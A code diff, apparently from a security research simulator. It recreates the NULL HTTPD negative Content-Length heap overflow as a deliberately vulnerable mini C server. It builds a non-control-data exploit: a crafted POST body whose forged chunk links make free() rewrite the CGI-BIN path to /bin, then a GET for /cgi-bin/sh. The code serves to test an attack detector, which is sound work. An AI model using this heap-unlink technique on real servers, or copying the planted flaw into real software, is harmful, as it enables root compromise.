@@ -1,0 +1,195 @@
+"""Mini NULL HTTPD: the negative Content-Length heap attack (s5.1.2).
+
+The published vulnerability (BID-5774): a POST with a negative
+``Content-Length`` makes the server under-allocate its body buffer
+(``calloc(1024 + contentlength)``) while still receiving a full-sized body
+-- a heap overflow into the allocator's free-chunk metadata.
+
+The paper's **non-control-data** exploit does not hijack control flow: the
+corrupted chunk's fd/bk links make ``free()``'s unlink write the word
+``"bin\\0"`` into the server's CGI-BIN configuration string, turning
+``/usr/local/httpd/cgi-bin`` into ``/bin`` -- after which an ordinary
+``GET /cgi-bin/sh`` request makes the server execute ``/bin/sh`` with its
+own (root) privileges.
+"""
+
+from __future__ import annotations
+
+from typing import List
+
+from ..attacks.payloads import le32
+from ..attacks.scenarios import AttackScenario, NON_CONTROL_DATA
+from ..isa.program import Executable
+from ..kernel.network import ScriptedClient
+from ..libc.build import build_program
+
+NULLHTTPD_SOURCE = r"""
+char cgi_bin[64] = "/usr/local/httpd/cgi-bin";
+
+void handle_get(int fd, char *url) {
+    char path[512];
+    char *sp;
+    sp = strchr(url, ' ');
+    if (sp) {
+        *sp = 0;                   /* strip " HTTP/1.0" */
+    }
+    if (strncmp(url, "/cgi-bin/", 9) == 0) {
+        sprintf(path, "%s%s", cgi_bin, url + 8);
+        exec(path);
+        send_str(fd, "200 CGI executed\r\n");
+        return;
+    }
+    send_str(fd, "200 OK static\r\n");
+}
+
+/* BID-5774: content_length is attacker-controlled and may be negative. */
+void handle_post(int fd, int content_length) {
+    char *body;
+    int n;
+    body = calloc(1024 + content_length, 1);
+    if (body == 0) {
+        send_str(fd, "500 Internal error\r\n");
+        return;
+    }
+    n = recv(fd, body, 1024);      /* reads a full body regardless */
+    send_str(fd, "200 OK posted\r\n");
+    free(body);                    /* detonation: unlink of tainted links */
+}
+
+int main(void) {
+    int s;
+    int c;
+    int n;
+    int content_length;
+    char req[1024];
+    char header[256];
+    char *tmp;
+    char *tmp2;
+    /* Ordinary server activity seeds the heap: a freed chunk sits in the
+       bin, later split by the POST body allocation. */
+    tmp = malloc(480);
+    tmp2 = malloc(16);
+    free(tmp);
+    s = server_listen(80);
+    if (s < 0) {
+        return 1;
+    }
+    while (1) {
+        c = accept(s);
+        if (c < 0) {
+            break;
+        }
+        n = recv_line(c, req, 1024);
+        if (n > 0) {
+            if (strncmp(req, "POST ", 5) == 0) {
+                content_length = 0;
+                while (1) {
+                    n = recv_line(c, header, 256);
+                    if (n < 1) {
+                        break;          /* blank line: end of headers */
+                    }
+                    if (header[0] == '\r') {
+                        break;          /* "\r\n" blank line */
+                    }
+                    if (strncmp(header, "Content-Length:", 15) == 0) {
+                        content_length = atoi(header + 15);
+                    }
+                }
+                handle_post(c, content_length);
+            } else if (strncmp(req, "GET ", 4) == 0) {
+                handle_get(c, req + 4);
+            } else {
+                send_str(c, "501 Not Implemented\r\n");
+            }
+        }
+        close(c);
+    }
+    return 0;
+}
+"""
+
+#: The Content-Length the attack sends: 1024 + (-800) = 224-byte buffer.
+ATTACK_CONTENT_LENGTH = -800
+
+#: Usable bytes of the body chunk: request 232 (= (224+11) & ~7) minus the
+#: 4-byte header.
+BODY_USABLE_BYTES = 228
+
+#: The word the unlink writes over the CGI-BIN string: "bin\0".
+BIN_WORD = int.from_bytes(b"bin\0", "little")
+
+
+def build_nullhttpd() -> Executable:
+    return build_program(NULLHTTPD_SOURCE)
+
+
+def cgi_bin_address() -> int:
+    """Data-segment address of the CGI-BIN configuration string."""
+    return build_nullhttpd().address_of("_g_cgi_bin")
+
+
+def overflow_body() -> bytes:
+    """POST body overflowing into the adjacent free chunk's metadata.
+
+    Layout past the 228 usable bytes: ``[size|FREE][fd][bk]`` of the free
+    remainder chunk.  ``fd = "bin\\0"`` is the value written; ``bk`` points
+    one byte into the CGI-BIN string so the write turns it into ``/bin``.
+    unlink executes ``bk[0] = fd`` -- a store through the tainted ``bk``.
+    """
+    corrupted_size = 0x41414141  # odd: keeps the chunk looking free
+    return (
+        b"A" * BODY_USABLE_BYTES
+        + le32(corrupted_size)
+        + le32(BIN_WORD)
+        + le32(cgi_bin_address() + 1)
+    )
+
+
+def attack_post_session() -> List[bytes]:
+    return [
+        b"POST /upload HTTP/1.0\r\n",
+        b"Content-Length: %d\r\n" % ATTACK_CONTENT_LENGTH,
+        b"\r\n",
+        overflow_body(),
+    ]
+
+
+def attack_get_session() -> List[bytes]:
+    return [b"GET /cgi-bin/sh HTTP/1.0\r\n"]
+
+
+def attack_clients() -> List[ScriptedClient]:
+    """Connection 1 corrupts the heap; connection 2 pops the shell."""
+    return [
+        ScriptedClient(attack_post_session()),
+        ScriptedClient(attack_get_session()),
+    ]
+
+
+def benign_clients() -> List[ScriptedClient]:
+    return [
+        ScriptedClient(
+            [
+                b"POST /upload HTTP/1.0\r\n",
+                b"Content-Length: 11\r\n",
+                b"\r\n",
+                b"hello world",
+            ]
+        ),
+        ScriptedClient([b"GET /index.html HTTP/1.0\r\n"]),
+        ScriptedClient([b"GET /cgi-bin/stats.cgi HTTP/1.0\r\n"]),
+    ]
+
+
+def nullhttpd_scenario() -> AttackScenario:
+    return AttackScenario(
+        name="nullhttpd-heap",
+        category=NON_CONTROL_DATA,
+        description="NULL HTTPD heap overflow rewrites CGI-BIN to /bin",
+        source=NULLHTTPD_SOURCE,
+        attack_input={"clients": attack_clients},
+        benign_input={"clients": benign_clients},
+        expected_alert_kind="store",
+        detected_by_control_data=False,
+        paper_ref="section 5.1.2 (NULL HTTPD)",
+    )
